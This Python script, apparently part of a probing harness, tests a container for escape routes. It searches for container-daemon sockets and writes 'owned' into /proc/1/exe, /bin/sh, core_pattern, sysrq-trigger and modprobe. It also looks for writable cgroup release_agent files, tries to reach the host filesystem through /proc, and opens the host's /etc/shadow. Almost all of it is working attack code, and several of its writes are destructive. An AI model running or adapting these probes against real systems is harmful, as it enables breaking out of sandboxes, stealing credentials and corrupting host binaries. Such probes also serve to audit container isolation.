"""Look for sockets of container daemons, and for files by which containers were left.

rows = [4, 6, 9, 18]
"""

import os
import stat

from attempts import attempt, outcome

SOCKETS = (
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/podman/podman.sock",
    "/run/crio/crio.sock",
    "/host/var/run/docker.sock",
)


def sockets():
    found = []
    for folder, names, files in os.walk("/"):
        names[:] = [name for name in names if f"{folder}/{name}" not in ("//proc", "//sys")]
        for name in files:
            path = f"{folder}/{name}"
            if stat.S_ISSOCK(os.lstat(path).st_mode):
                found.append(path)
    return found


def writes(path, text=b"owned"):
    descriptor = os.open(path, os.O_WRONLY)
    os.write(descriptor, text)
    return True


def groups(name):
    return [
        f"{folder}/{name}"
        for folder, _, files in os.walk("/sys/fs/cgroup")
        if name in files and os.access(f"{folder}/{name}", os.W_OK)
    ]


for path in SOCKETS:
    attempt(f"see {path}", os.path.exists, path)
attempt("any socket", sockets)
for path in ("/proc/1/exe", "/proc/self/exe", "/sbin/docker-init", "/bin/sh", "/usr/bin/python3"):
    attempt(f"write {path}", writes, path)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"):
    attempt(f"write {path}", writes, path)
for name in ("release_agent", "notify_on_release", "cgroup.procs", "tasks", "pids.max", "memory.max"):
    attempt(f"a writable {name}", groups, name)
for pid in ("1", "self", str(os.getppid())):
    for name in ("cwd", "root"):
        attempt(f"host by {pid}/{name}", os.path.exists, f"/proc/{pid}/{name}/../../../var/lib/docker")
    for descriptor in range(3, 64):
        attempt(f"{pid} has {descriptor}", os.listdir, f"/proc/{pid}/fd/{descriptor}")
attempt("accounts of process 1", os.open, "/proc/1/root/etc/shadow", os.O_RDONLY)
attempt("a mount of the host", lambda: [line for line in open("/proc/self/mountinfo") if "/home" in line])
result = outcome()
